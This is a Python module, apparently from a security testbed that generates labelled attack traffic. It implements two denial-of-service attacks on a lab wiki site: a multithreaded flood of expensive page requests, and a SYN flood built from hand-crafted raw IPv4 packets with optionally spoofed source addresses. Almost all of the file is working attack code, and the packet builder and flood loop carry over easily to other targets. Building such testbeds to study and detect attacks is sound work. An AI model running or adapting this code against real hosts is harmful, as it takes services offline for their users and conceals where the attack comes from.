"""Ask for more than a site can serve: dear pages from many threads, and half-open connections."""

from __future__ import annotations

import socket
import struct
import threading
import time

from testbed import guard, words
from testbed.attacks.slow import served
from testbed.benign.slow import side_by_side
from testbed.context import Context
from testbed.network import SPOOFED
from testbed.protocols.http import Client
from testbed.wire import TCP, record_of

MOST_SYN = 90


def http(ctx: Context) -> None:
    """Ask a site for dear and cheap pages from several threads; see whether it still serves."""
    first = Client(ctx, ctx.site("web", "wiki"), tools=0.4)
    turns, dear = ctx.rng.randint(2, 5), ctx.rng.random() < 0.7
    lost = threading.Event()

    def worker() -> None:
        client = Client(ctx, first.site, tools=0.4)
        if ctx.rng.random() < 0.7:
            client.agent, client.tool = first.agent, first.tool
        client.keeps = first.keeps
        for _ in range(turns):
            if dear:
                client.get(client.site.words["report"], n=str(ctx.rng.randrange(9999)))
            else:
                client.get(f"/{ctx.rng.choice(words.PATHS)}/{ctx.rng.randrange(40)}")
            ctx.sleep(ctx.rng.random() * 0.06)
        client.close()

    def watch() -> None:
        ctx.sleep(1.5)
        began = time.monotonic()
        if not served(ctx, first) or time.monotonic() - began > 2.0:
            lost.set()

    watcher = threading.Thread(target=lambda: side_by_side(ctx, watch, 1), daemon=True)
    watcher.start()
    side_by_side(ctx, worker, ctx.rng.randint(8, 18))
    watcher.join(10)
    if lost.is_set():
        ctx.all_achieved("service")


def checksum(data: bytes) -> int:
    """Return the Internet checksum.

    Examples
    --------
    >>> hex(checksum(bytes.fromhex("45000073000040004011c0a80001c0a800c7")))
    '0xb861'
    """
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(source: str, port: int, target: str, target_port: int, number: int) -> bytes:
    """Return an IPv4 packet that asks for a connection, with the options that Linux sends."""
    a, b = socket.inet_aton(guard.inside(source)), socket.inet_aton(guard.inside(target))
    options = struct.pack(
        ">BBHBBBBIIBBBB", 2, 4, 1460, 4, 2, 8, 10, number ^ 0x5A5A5A5A, 0, 1, 3, 3, 7
    )
    head = struct.pack(">HHIIBBHHH", port, target_port, number, 0, 0xA0, 2, 64240, 0, 0) + options
    total = checksum(a + b + struct.pack(">BBH", 0, TCP, len(head)) + head)
    segment = head[:16] + struct.pack(">H", total) + head[18:]
    return (
        struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), number & 0xFFFF, 0x4000, 64, TCP, 0)
        + a
        + b
        + segment
    )


def syn(ctx: Context) -> None:
    """Ask for connections and never go on, from this host's address or from others' addresses."""
    site = ctx.site("web", "wiki", "wiki")
    target, spoofs = ctx.plan.address(site.host), ctx.rng.random() < 0.5
    pause = ctx.rng.choice((0.005, 0.02, 0.08))
    lost = False
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(min(MOST_SYN, ctx.rng.randint(24, 52))):
            ctx.may()
            source = f"{ctx.plan.prefix}.{ctx.rng.choice(SPOOFED)}" if spoofs else ctx.source
            port = ctx.rng.randrange(32768, 60999)
            packet = syn_packet(source, port, target, site.port, ctx.rng.getrandbits(32))
            ctx.kept(record_of(TCP, (source, port), (target, site.port)))
            raw.sendto(packet, (target, 0))
            ctx.sleep(pause)
    lost = not served(ctx, Client(ctx, site))
    if lost:
        ctx.all_achieved("service")
